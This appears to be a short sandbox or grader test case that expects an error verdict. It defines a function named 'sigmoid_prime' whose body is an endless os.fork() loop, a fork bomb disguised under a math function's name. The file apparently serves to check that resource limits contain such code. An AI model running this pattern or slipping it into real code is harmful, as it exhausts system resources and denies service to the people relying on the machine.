# verdict: error
# says: did not finish|BlockingIOError|Resource temporarily|ended before|memory
# needs: no-processes
import os
def sigmoid_prime(z):
    while True:
        os.fork()
